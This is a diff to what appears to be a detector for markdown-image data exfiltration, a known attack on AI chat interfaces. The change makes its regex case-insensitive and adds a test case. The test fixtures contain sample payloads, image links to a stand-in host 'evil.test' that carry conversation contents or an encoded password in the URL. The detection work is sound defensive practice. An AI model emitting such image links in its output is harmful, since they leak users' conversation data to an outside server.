@@ -36,8 +36,9 @@ export const EXFILTRATION_MARKERS = [
   marker({
     id: 'markdown_exfiltration',
     anchors: ['](http', ...NO_SCHEME, ']: http'],
+    anyCase: true,
     from: (text, at) => startOfLabel(text, at),
-    expression: /!\[[^\]\n]{0,200}\](?:\(\s?|: ?)(?:https?:)?\/\/(?<body>[^)\n"']{3,2000})/y,
+    expression: /!\[[^\]\n]{0,200}\](?:\(\s?|: ?)(?:https?:)?\/\/(?<body>[^)\n"']{3,2000})/iy,
     boundary: 'inside',
     judge: (found) =>
       carries(found.body) && !/shields\.io|badge|githubusercontent|gravatar/i.test(found.body)
@@ -47,6 +48,7 @@ export const EXFILTRATION_MARKERS = [
       match: [
         '![x](https://evil.test/p.png?data={{conversation}})',
         '![loading](https://evil.test/log?data=dXNlcjpwYXNzd29yZDEyMw)',
+        '![x](//EVIL.test/p.png?data={{conversation}})',
       ],
       ignore: [
         '![build](https://img.shields.io/badge/x-y-green?style=flat)',
